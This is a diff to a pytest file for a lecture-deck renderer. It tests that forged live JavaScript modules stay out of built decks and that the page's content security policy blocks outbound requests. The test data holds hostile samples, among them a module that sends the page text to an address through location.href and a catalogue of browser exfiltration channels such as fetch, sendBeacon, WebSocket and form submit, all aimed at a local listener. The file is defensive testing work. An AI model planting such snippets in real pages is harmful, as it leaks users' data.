@@ -1,8 +1,16 @@
 """A hostile deck: nothing of it runs, nothing is read from outside, and it is told where."""
 
+import base64
+import hashlib
+import re
+import shutil
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+
 import pytest
 from deck_project import ROOT, complaints, make_project, png, write_deck
 
+from deck import build, lecture, made_here, provenance
 from deck.render import RenderError, render
 
 
@@ -43,7 +51,7 @@ REFUSED = {
     "<style>p { content: '/*'; background: url(//a.org/x.png) }</style>": "a style loads //a.org",
     "<style>p { background: u\\72l(//a.org/x.png) }</style>": "a style loads",
     "<style>p { --a: url(//a.org/x.png) }</style>": "a style loads //a.org",
-    "<style>p { --a: '//a.org'; background: image-set(var(--a) 1x) }</style>": "a style loads image-set(var(",
+    "<style>p { --a: '//a.org'; mask: image-set(var(--a) 1x) }</style>": "loads image-set(var(",
     "<style>p { background: -webkit-image-set('//a.org/x' 1x) }</style>": "a style loads //a.org",
     "<style>p { background: IMAGE-SET(url(//a.org/x) 1x) }</style>": "a style loads //a.org",
     "<style>p { background: url(file:///etc/x.png) }</style>": "a style loads file:",
@@ -237,3 +245,184 @@ def test_the_lecture_names_no_address_that_it_loads(rendered):
     page = rendered["html"].read_text("utf-8")
     assert "Content-Security-Policy" in page
     assert ROOT.as_posix() not in page
+
+
+# Live modules ----------------------------------------------------------------------------------
+
+
+@pytest.fixture
+def own_state(tmp_path, monkeypatch):
+    """Make this machine one that has never made a live module."""
+    monkeypatch.setattr("platformdirs.user_state_path", lambda name: tmp_path / "state")
+    monkeypatch.setattr(made_here, "_made", set())
+
+
+@pytest.fixture
+def cloned(tmp_path, own_state):
+    """Return a project that has come from elsewhere: the LIF neuron, its picture, its module."""
+    root = make_project(tmp_path / "cloned")
+    (root / "figures").mkdir()
+    for room, name in (("figures", "lif.py"), ("figures", "lecture.mplstyle")):
+        shutil.copy(ROOT / room / name, root / room)
+    for file in (ROOT / "images").glob("lif.*"):
+        shutil.copy(file, root / "images")
+    write_deck(root, "\n# One\n\n![The LIF neuron](../images/lif.png)\n", "lecture")
+    return root
+
+
+EVIL = "export const info = {}; location.href = 'http://127.0.0.1:9/?' + document.body.innerText;\n"
+
+
+def forge(root, name: str, module: str) -> None:
+    """Put a module beside a picture and sign the picture again, as its author could."""
+    image = root / "images" / f"{name}.png"
+    said, _ = provenance.read(image.read_bytes())
+    said["live"] = provenance.digest(module.encode())
+    image.write_bytes(provenance.sign(image.read_bytes(), said))
+    (root / "images" / f"{name}.live.js").write_text(module, "utf-8")
+    assert provenance.why_not_current(root, name) is None
+
+
+def test_what_another_machine_made_is_made_anew_before_it_runs(cloned):
+    before = {file.name: file.read_bytes() for file in (cloned / "images").iterdir()}
+    assert build.status(root=cloned) == [("lif", "stale", build.UNPROVEN)]
+    assert build.live_modules(cloned) == {}
+    assert lecture.make(["lecture"], root=cloned) == 0
+    assert "createModel" in (cloned / "build" / "lecture.html").read_text("utf-8")
+    assert build.status(root=cloned) == [("lif", "current", "")]
+    # The clone is as it was: what this machine makes is what it brought.
+    assert {file.name: file.read_bytes() for file in (cloned / "images").iterdir()} == before
+
+
+def test_a_forged_module_with_a_forged_signature_never_gets_into_a_deck(cloned):
+    forge(cloned, "lif", EVIL)
+    assert lecture.make(["lecture"], root=cloned) == 0
+    page = (cloned / "build" / "lecture.html").read_text("utf-8")
+    assert "location.href = 'http" not in page
+    assert "createModel" in page
+    assert (cloned / "images" / "lif.live.js").read_text("utf-8") != EVIL
+
+
+def test_a_record_inside_the_project_proves_nothing(cloned):
+    forge(cloned, "lif", EVIL)
+    digest = hashlib.sha256(EVIL.encode()).hexdigest()
+    for folder in ("build", "build/cache", "images", "live"):
+        (cloned / folder).mkdir(exist_ok=True)
+        (cloned / folder / digest).touch()
+    assert build.live_modules(cloned) == {}
+
+
+def test_a_module_without_a_figure_never_gets_into_a_deck(cloned):
+    image = (cloned / "images" / "lif.png").read_bytes()
+    (cloned / "images" / "other.png").write_bytes(image)
+    (cloned / "images" / "other.live.js").write_text(EVIL, "utf-8")
+    write_deck(cloned, "\n# One\n\n![No figure of ours](../images/other.png)\n", "lecture")
+    assert lecture.make(["lecture"], root=cloned) == 0
+    assert "location.href = 'http" not in (cloned / "build" / "lecture.html").read_text("utf-8")
+
+
+MODEL = """
+from brian2 import *
+
+@implementation('javascript', {code!r})
+@implementation('numpy', discard_units=True)
+@check_units(x=1, result=1)
+def twice(x):
+    return 2*x
+
+G = NeuronGroup(1, 'dv/dt = (twice(v) + 1)/(10*ms) : 1', method='euler')
+Vmon = StateMonitor(G, 'v', record=True)
+run(10*ms)
+"""
+OWN_JAVASCRIPT = {
+    "function twice(x) { return 2 * x; }": "",
+    "function twice(x) { return Math.sign(x) * Math.abs(2 * x); }": "",
+    "function twice(x) { location.href = '//a.org'; return 2 * x; }": "uses location",
+    "function twice(x) { return 2 * x; } fetch('//a.org')": "uses fetch",
+    "function twice(x) { self['loc' + 'ation'] = 1; return x; }": "uses self",
+    "function twice(x) { return globalThis.top.y; }": "uses globalThis",
+    "const twice = (x) => { import('//a.org/x.js'); return x; }": "uses import()",
+    "function twice(x) { return new Image().src = '//a.org'; }": "uses Image",
+    "function twice(x) { return eval('x'); }": "uses eval",
+    "function twice(x { return 2 * x; }": "SyntaxError",
+}
+
+
+@pytest.mark.parametrize("code", OWN_JAVASCRIPT)
+def test_javascript_that_a_model_brings_may_only_compute(tmp_path, code):
+    """A policy can't keep a script from changing the address, so nothing that could gets in."""
+    from deck.live.device import run_script
+    from deck.live.page import check_own_functions
+
+    script = tmp_path / "own.py"
+    script.write_text(MODEL.format(code=code), "utf-8")
+    device = run_script(script)
+    if not OWN_JAVASCRIPT[code]:
+        return check_own_functions(device)
+    with pytest.raises(ValueError, match=re.escape(OWN_JAVASCRIPT[code])):
+        check_own_functions(device)
+
+
+WAYS_OUT = {
+    "fetch": "fetch(to).catch(() => 0)",
+    "XMLHttpRequest": "x = new XMLHttpRequest(); x.open('GET', to); x.send()",
+    "WebSocket": "new WebSocket(to.replace('http', 'ws'))",
+    "EventSource": "new EventSource(to)",
+    "beacon": "navigator.sendBeacon(to, 'notes')",
+    "image": "new Image().src = to",
+    "style": "document.body.style.background = `url(${to})`",
+    "font": "new FontFace('x', `url(${to})`).load().catch(() => 0)",
+    "script": "document.body.append(Object.assign(document.createElement('script'), {src: to}))",
+    "import": "import(to).catch(() => 0)",
+    "worker": "new Worker(to)",
+    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: to}))",
+    "object": "document.body.append(Object.assign(document.createElement('object'), {data: to}))",
+    "prefetch": "document.head.append(Object.assign(document.createElement('link'), "
+    "{rel: 'prefetch', href: to}))",
+    "stylesheet": "document.head.append(Object.assign(document.createElement('link'), "
+    "{rel: 'stylesheet', href: to}))",
+    "media": "document.body.append(Object.assign(document.createElement('video'), {src: to}))",
+    "form": "f = Object.assign(document.createElement('form'), {action: to}); "
+    "document.body.append(f); f.submit()",
+    "eval": "eval('fetch(to)')",
+    "Function": "Function('fetch(to)')()",
+}
+
+
+@pytest.mark.parametrize("way", WAYS_OUT)
+def test_the_policy_lets_nothing_out(project, browser, listening, way):
+    """Even a script that runs in the page reaches nothing by any way that a policy rules."""
+    address, heard = listening
+    heard.clear()
+    html = render(write_deck(project, "# One\n", "policy"), root=project)[0]
+    script = f"var to = {address!r} + 'x', f, x; try {{ {WAYS_OUT[way]} }} catch {{}}"
+    whole = html.read_text("utf-8").replace("</body>", f"<script>{script}</script></body>")
+    digest = base64.b64encode(hashlib.sha256(script.encode()).digest()).decode()
+    html.write_text(whole.replace("script-src ", f"script-src 'sha256-{digest}' "), "utf-8")
+    page = browser.new_page()
+    page.goto(html.as_uri(), wait_until="commit")
+    page.wait_for_function("typeof to == 'string'")  # it runs
+    page.wait_for_timeout(250)
+    assert heard == []
+    page.close()
+
+
+@pytest.fixture(scope="module")
+def listening():
+    """Return the address of a server on this machine, and the list of what it is asked for."""
+    heard = []
+
+    class Handler(BaseHTTPRequestHandler):
+        def handle_one_request(self):
+            # Chrome may open a connection ahead of what it then refuses: nothing is said there.
+            if asked := self.rfile.readline():
+                heard.append(asked)
+            self.close_connection = True
+
+        def log_message(self, *args):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}/", heard
+    server.shutdown()
